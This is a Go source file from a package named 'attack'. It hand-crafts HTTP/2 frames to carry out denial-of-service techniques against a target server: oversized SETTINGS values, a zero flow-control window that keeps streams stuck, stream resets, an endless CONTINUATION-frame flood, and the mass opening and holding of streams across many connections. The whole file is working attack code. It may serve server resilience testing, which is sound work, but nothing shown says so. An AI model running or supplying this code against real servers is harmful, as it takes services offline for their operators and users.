package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"sync"
	"time"
)

// The frames of RFC 9113 that are of use here.
const (
	frameHeaders      = 1
	frameReset        = 3
	frameSettings     = 4
	framePing         = 6
	frameContinuation = 9
	endStream         = 1
	endHeaders        = 4

	settingTable  = 1
	settingWindow = 4
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// Conn is an HTTP/2 connection whose frames are written by hand.
type Conn struct {
	net.Conn
	next uint32
	sent []byte
}

// HTTP2 opens one. What the server sends is read and dropped, if anything is to be read at all.
func (t Target) HTTP2(ctx context.Context, read bool, settings ...uint32) (*Conn, error) {
	conn, err := t.dial(ctx, "h2")
	if err != nil {
		return nil, err
	}
	c := &Conn{Conn: conn, next: 1, sent: []byte(preface)}
	var body []byte
	for i := 0; i < len(settings); i += 2 {
		body = binary.BigEndian.AppendUint16(body, uint16(settings[i]))
		body = binary.BigEndian.AppendUint32(body, settings[i+1])
	}
	c.frame(frameSettings, 0, 0, body)
	if err := c.Flush(); err != nil {
		return nil, errors.Join(err, conn.Close())
	}
	if read {
		go func() { _, _ = io.Copy(io.Discard, conn) }() // it ends with the connection
	}
	return c, nil
}

func (c *Conn) frame(kind, flags byte, stream uint32, body []byte) {
	n := len(body)
	c.sent = append(c.sent, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	c.sent = binary.BigEndian.AppendUint32(c.sent, stream)
	c.sent = append(c.sent, body...)
}

// Flush sends what was gathered.
func (c *Conn) Flush() error {
	_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
	_, err := c.Write(c.sent)
	c.sent = c.sent[:0]
	return err
}

// field is a header as HPACK writes one that is in no table, and does not come into one.
func field(b []byte, name, value string) []byte {
	b = append(b, 0)
	for _, s := range []string{name, value} {
		if n := len(s); n < 127 {
			b = append(b, byte(n))
		} else { // a prefix of seven bits, then seven bits at a time
			b = append(b, 127)
			for n -= 127; n >= 128; n >>= 7 {
				b = append(b, byte(n)|128)
			}
			b = append(b, byte(n))
		}
		b = append(b, s...)
	}
	return b
}

// Request opens a stream; headers are names and values in turn. Unless it ends, the server waits for a body.
func (c *Conn) Request(ends bool, method, path string, headers ...string) (stream uint32) {
	var block []byte
	for _, pair := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "x"}, {":path", path}} {
		block = field(block, pair[0], pair[1])
	}
	for i := 0; i < len(headers); i += 2 {
		block = field(block, headers[i], headers[i+1])
	}
	flags := byte(endHeaders)
	if ends {
		flags |= endStream
	}
	stream = c.next
	c.next += 2
	c.frame(frameHeaders, flags, stream, block)
	return stream
}

// Reset takes a stream back.
func (c *Conn) Reset(stream uint32) { c.frame(frameReset, 0, stream, []byte{0, 0, 0, 8}) }

// Ping wants an answer.
func (c *Conn) Ping() { c.frame(framePing, 0, 0, make([]byte, 8)) }

// Settings wants an answer, too.
func (c *Conn) Settings() { c.frame(frameSettings, 0, 0, nil) }

// Endless begins headers that another n frames go on with, and that do not end.
func (c *Conn) Endless(n int) {
	c.frame(frameHeaders, endStream, c.next, field(nil, ":method", "GET"))
	for range n {
		c.frame(frameContinuation, 0, c.next, field(nil, "x", string(make([]byte, 8000))))
	}
	c.next += 2
}

// Streams opens so many connections with so many streams each, and holds them until the server ends them or ctx does.
// A client that reads nothing gives each stream a window of zero: no byte of an answer may come.
func (t Target) Streams(ctx context.Context, connections, each int, reads, ends bool, method, path string,
	headers ...string,
) {
	var all sync.WaitGroup
	for range connections {
		all.Go(func() {
			settings := []uint32{settingTable, 1 << 30}
			if !reads {
				settings = append(settings, settingWindow, 0)
			}
			c, err := t.HTTP2(ctx, false, settings...)
			if err != nil {
				return
			}
			defer context.AfterFunc(ctx, func() { _ = c.SetReadDeadline(time.Unix(1, 0)) })()
			defer func() { _ = c.Close() }()
			for range each {
				c.Request(ends, method, path, headers...)
			}
			if c.Flush() == nil {
				_, _ = io.Copy(io.Discard, c) // until it is ended
			}
		})
	}
	all.Wait()
}
